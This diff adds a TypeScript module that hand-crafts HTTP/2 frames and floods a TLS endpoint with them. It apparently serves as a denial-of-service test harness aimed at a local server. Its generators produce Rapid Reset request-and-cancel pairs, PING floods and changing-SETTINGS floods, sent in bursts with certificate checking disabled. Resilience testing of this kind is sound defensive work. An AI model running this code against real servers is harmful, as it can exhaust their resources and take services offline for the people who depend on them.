@@ -1,0 +1,91 @@
+/** Frames of HTTP/2 (RFC 9113), written by hand: the client of Node makes an attacker slower than its target. */
+import { connect } from 'node:tls';
+
+const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');
+const HEADERS = 1;
+const RST_STREAM = 3;
+const SETTINGS = 4;
+const PING = 6;
+const END_STREAM_AND_HEADERS = 0x5;
+const CANCEL = 8;
+const INITIAL_WINDOW_SIZE = 4;
+
+function frame(type: number, flags: number, stream: number, payload: Uint8Array): Buffer {
+  const head = Buffer.alloc(9);
+  head.writeUIntBE(payload.length, 0, 3);
+  head.writeUInt8(type, 3);
+  head.writeUInt8(flags, 4);
+  head.writeUInt32BE(stream, 5);
+  return Buffer.concat([head, payload]);
+}
+
+/** A string of HPACK (RFC 7541) without Huffman code; at most 126 bytes. */
+const hpackString = (value: string): Buffer => Buffer.concat([Buffer.from([value.length]), Buffer.from(value)]);
+
+/** The header block of a GET: names from the static table, values literal and not indexed. */
+function getBlock(path: string, token: string): Buffer {
+  const [method, scheme, pathName, authority] = [0x82, 0x87, 0x04, 0x01];
+  const authorization = [0x0f, 23 - 15];
+  return Buffer.concat([
+    ...[Buffer.from([method, scheme, pathName]), hpackString(path), Buffer.from([authority]), hpackString('localhost')],
+    ...[Buffer.from(authorization), hpackString(`Bearer ${token}`)],
+  ]);
+}
+
+function uint32(value: number): Buffer {
+  const bytes = Buffer.alloc(4);
+  bytes.writeUInt32BE(value);
+  return bytes;
+}
+
+/** Makes the frames of the n-th step of an attack. */
+export type Frames = (n: number) => Buffer;
+
+/** A request that is reset together with its beginning. */
+export function resetRequest(path: string, token: string): Frames {
+  const block = getBlock(path, token);
+  const cancel = uint32(CANCEL);
+  return (n) => {
+    const stream = 2 * n + 1;
+    return Buffer.concat([frame(HEADERS, END_STREAM_AND_HEADERS, stream, block), frame(RST_STREAM, 0, stream, cancel)]);
+  };
+}
+
+/** A PING. */
+export const ping: Frames = (n) => frame(PING, 0, 0, Buffer.concat([uint32(0), uint32(n)]));
+
+/** Settings that change. */
+export const settings: Frames = (n) =>
+  frame(SETTINGS, 0, 0, Buffer.concat([Buffer.from([0, INITIAL_WINDOW_SIZE]), uint32(65_535 + (n % 9))]));
+
+/** Frames that are written together. */
+const BURST = 100;
+
+/**
+ * Sends frames on a connection until the server closes it or the attack ends.
+ *
+ * @returns the number of steps that were written
+ */
+export async function sendFrames(url: string, frames: Frames, signal: AbortSignal): Promise<number> {
+  const { hostname, port } = new URL(url);
+  const socket = connect({ host: hostname, port: Number(port), ALPNProtocols: ['h2'], rejectUnauthorized: false });
+  const end = (): void => void socket.destroy();
+  signal.addEventListener('abort', end);
+  socket.on('error', () => undefined).resume();
+  const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()));
+  let count = 0;
+  socket.once('secureConnect', () => {
+    socket.write(Buffer.concat([PREFACE, frame(SETTINGS, 0, 0, Buffer.alloc(0))]));
+    const write = (): void => {
+      if (socket.destroyed) return;
+      const burst = Array.from({ length: BURST }, () => frames(count++));
+      // The server acknowledges nothing that this waits for: only a full connection slows the attacker down.
+      socket.write(Buffer.concat(burst), () => setImmediate(write));
+    };
+    write();
+  });
+  if (signal.aborted) end();
+  await closed;
+  signal.removeEventListener('abort', end);
+  return count;
+}
